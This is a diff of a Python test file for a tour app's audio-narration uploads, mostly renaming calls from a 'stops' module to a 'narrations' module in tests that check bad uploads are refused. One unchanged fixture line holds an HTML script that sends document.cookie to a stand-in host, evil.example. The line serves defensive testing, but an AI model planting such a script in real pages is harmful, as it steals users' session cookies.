@@ -26,7 +26,7 @@ from media.store import MediaStore
 from qr.demo import demo_file
 from tests.accounts.helpers import snapshot
 from tests.qr.conftest import STAFF, data_file
-from tours import stops
+from tours import narrations, stops
 from tours.models import Narration
 
 HTML = b"<html><body><script>fetch('//evil.example/'+document.cookie)</script></body></html>"
@@ -113,14 +113,14 @@ async def test_confirming_a_cut_or_padded_narration_deletes_it_and_writes_nothin
 
     _, make, content_type = next(h for h in HOSTILE if h[0] == name)
     guide = await make_guide_stop(session, store)
-    post = await stops.request_narration_upload(
+    post = await narrations.request_narration_upload(
         session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang="ko",
         content_type=content_type)
     store.put(post.key, make(), content_type)
     await session.flush()
     before = await snapshot(connection, store)
     with pytest.raises(DomainError) as refused:
-        await stops.confirm_narration_upload(
+        await narrations.confirm_narration_upload(
             session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang="ko",
             key=post.key, transcript=VTT, translation=stops.Translation.HUMAN)
     assert refused.value.code == "AUDIO_CORRUPT"
@@ -145,12 +145,12 @@ async def test_an_mp3_narration_upload_is_kept_alone_or_beside_its_ogg(
     # a new language whose first audio is an MP3, or the MP3 of the Vietnamese narration
     # (uploaded without a transcript)
     lang = "ko" if first == "audio/mpeg" else "vi"
-    post = await stops.request_narration_upload(
+    post = await narrations.request_narration_upload(
         session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang=lang,
         content_type="audio/mpeg")
     store.put(post.key, mp3, "audio/mpeg")
     transcript = demo_file("chua-ba-thien-hau-2.vi.vtt").decode() if lang == "ko" else None
-    narration = await stops.confirm_narration_upload(
+    narration = await narrations.confirm_narration_upload(
         session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang=lang,
         key=post.key, transcript=transcript, translation=stops.Translation.HUMAN)
     if first == "audio/mpeg":
@@ -196,7 +196,7 @@ async def test_a_lying_or_foreign_mp3_format_is_refused_and_nothing_is_written(
     row = _narration_row(narration)
     post = None
     if path == "upload":
-        post = await stops.request_narration_upload(
+        post = await narrations.request_narration_upload(
             session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang="vi",
             content_type="audio/mpeg")
         store.put(post.key, make(), "audio/mpeg")
@@ -204,11 +204,11 @@ async def test_a_lying_or_foreign_mp3_format_is_refused_and_nothing_is_written(
     before = await snapshot(connection, store)
     with pytest.raises(DomainError) as refused:
         if post is not None:
-            await stops.confirm_narration_upload(
+            await narrations.confirm_narration_upload(
                 session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang="vi",
                 key=post.key, transcript=None)
         else:
-            await stops.add_narration_format(
+            await narrations.add_narration_format(
                 session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang="vi",
                 audio=make(), content_type="audio/mpeg")
     assert refused.value.code == code, refused.value.message
@@ -226,7 +226,7 @@ async def test_a_format_needs_a_narration_in_its_language(
     guide = await make_guide_stop(session, store)
     before = await snapshot(connection, store)
     with pytest.raises(DomainError) as refused:
-        await stops.add_narration_format(
+        await narrations.add_narration_format(
             session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang="ja",
             audio=demo_file("chua-ba-thien-hau-2.vi.mp3"), content_type="audio/mpeg")
     assert refused.value.code == "NARRATION_NOT_FOUND"
@@ -238,12 +238,12 @@ async def test_a_new_narration_replaces_every_format_of_the_old(
     from tests.qr.conftest import make_guide_stop
 
     guide = await make_guide_stop(session, store)
-    old = await stops.add_narration_format(
+    old = await narrations.add_narration_format(
         session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang="en",
         audio=demo_file("chua-ba-thien-hau-2.en.mp3"), content_type="audio/mpeg")
     old_keys = [s.key for s in stops.audio_sources(old)] + [old.transcript_key]
     assert len(old_keys) == 3 and all(store.head(k) for k in old_keys)
-    new = await stops.add_narration(
+    new = await narrations.add_narration(
         session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang="en",
         audio=demo_file("den-do-1.en.mp3"), content_type="audio/mpeg",
         transcript=demo_file("den-do-1.en.vtt").decode(), translation=stops.Translation.HUMAN)
